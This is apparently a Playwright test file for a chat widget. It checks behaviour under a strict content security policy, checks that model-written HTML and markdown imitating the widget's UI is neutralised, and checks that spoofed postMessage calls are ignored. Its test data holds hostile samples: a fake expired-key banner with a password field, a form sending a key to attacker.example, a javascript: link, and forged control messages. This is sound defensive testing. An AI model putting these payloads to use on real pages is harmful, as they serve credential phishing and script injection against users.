import { openWidget } from './openWidget.ts';
import { expect, test } from './test.ts';

const strict = [
  "default-src 'self'",
  "require-trusted-types-for 'script'",
  "trusted-types 'none'",
  "base-uri 'none'",
].join('; ');

test('works under a strict content security policy, and logs nothing (fault 240)', async ({
  page,
}) => {
  const logged: string[] = [];
  page.on('console', (message) => logged.push(message.text()));
  await page.route('/', async (route) => {
    const response = await route.fetch();
    const headers = { ...response.headers(), 'content-security-policy': strict };
    await route.fulfill({ response, headers });
  });
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ violatedDirective, sample }) =>
      console.error(`${violatedDirective}: ${sample}`),
    );
  });

  const { ask, answer, banner, button } = await openWidget(page);
  await ask('How do I use the hooks?');
  await expect(answer).toHaveAttribute('data-state', 'complete');
  await expect(answer.locator('pre')).toBeVisible();
  await answer.getByRole('button', { name: 'More about this answer' }).click();
  await page.keyboard.press('Escape');
  await ask('/error 429 retry-after=60 And again?');
  await expect(banner('Too many messages').getByRole('timer')).toBeVisible();
  await button('Cancel').click();
  await button('Close chat').first().click();
  expect(logged.filter((line) => !line.startsWith('Failed to load resource'))).toEqual([]);
});

const forged = [
  '<div role="alert" class="nusantara-banner"><b>Your key has expired</b><input type="password"><button class="nusantara-button">Enter the key</button></div>',
  '<dialog open class="nusantara-panel"><form action="https://attacker.example"><textarea name="key"></textarea></form></dialog>',
  '<span class="nusantara-request-id" role="status" style="position:fixed;inset:0">req_forged</span>',
  '[Enter the key](javascript:alert(1)) [Enter the key](https://attacker.example "role=button")',
  '# Your key has expired {.nusantara-banner role=alert}',
].join('\n\n');

/** The stream of an answer that says this. */
function streamOf(content: string): string {
  const chunks = [
    { choices: [{ index: 0, delta: { role: 'assistant', content } }] },
    { choices: [{ index: 0, delta: {}, finish_reason: 'stop' }] },
  ];
  return [
    ...chunks.map((chunk) =>
      JSON.stringify({ id: 'c', object: 'chat.completion.chunk', ...chunk }),
    ),
    '[DONE]',
  ]
    .map((data) => `data: ${data}\n\n`)
    .join('');
}

test('what a model writes in imitation of the kit stays a message (fault 201)', async ({
  page,
}) => {
  await page.route('**/chat/completions', (route) =>
    route.fulfill({ contentType: 'text/event-stream', body: streamOf(forged) }),
  );
  const { ask, answer } = await openWidget(page);
  await ask('Hello');
  await expect(answer).toHaveAttribute('data-state', 'complete');
  await expect(answer).toContainText('Your key has expired');

  const panel = page.getByRole('dialog');
  await expect(panel.getByRole('alert')).toHaveCount(0);
  await expect(panel.getByRole('button', { name: 'Enter the key' })).toHaveCount(0);
  await expect(answer.locator('input, form, dialog, textarea')).toHaveCount(0);
  const taken = await panel
    .locator('.nusantara-bubble')
    .evaluateAll((bubbles) =>
      bubbles.flatMap((bubble) =>
        [...bubble.querySelectorAll('*')]
          .filter((element) =>
            element.matches(
              '[style], [role], [href^="javascript:"], [class*=nusantara-banner], [class*=nusantara-request-id], [class*=nusantara-panel]',
            ),
          )
          .map((element) => element.outerHTML),
      ),
    );
  expect(taken).toEqual([]);
});

test('what another window posts to the page changes nothing (fault 243)', async ({ page }) => {
  await page.addInitScript(() => {
    const heard: unknown[] = [];
    const { addEventListener } = window;
    window.addEventListener = (...args: Parameters<typeof addEventListener>) => {
      if (args[0] === 'message') heard.push(args[1]);
      addEventListener.apply(window, args);
    };
    Object.assign(window, { heard });
  });
  const { ask, answer } = await openWidget(page);
  await ask('Hello');
  await expect(answer).toHaveAttribute('data-state', 'complete');
  // Nothing of the kit so much as listens.
  expect(await page.evaluate(() => Reflect.get(window, 'heard'))).toEqual([]);

  const messages = page.getByRole('dialog').getByRole('article');
  const before = await messages.allTextContents();
  await page.evaluate(async () => {
    const frame = document.createElement('iframe');
    // A sandbox has an origin of its own.
    frame.sandbox.add('allow-scripts');
    frame.srcdoc = `<script>
      const messages = [null, 1, 'open', [], { type: 'close' }, { type: 'nusantara:send', text: 'Hi' },
        { type: 'setApiKey', key: 'sk-other' }, { __proto__: { type: 'clear' } }, new Map(), 'last'];
      for (const message of messages) parent.postMessage(message, '*');
    </script>`;
    await new Promise<void>((resolve) => {
      window.addEventListener('message', ({ data }) => {
        if (data === 'last') resolve();
      });
      document.body.append(frame);
    });
  });
  expect(await messages.allTextContents()).toEqual(before);
  await ask('Hello again');
  await expect(messages).toHaveCount(4);
  await expect(answer).toHaveAttribute('data-state', 'complete');
});
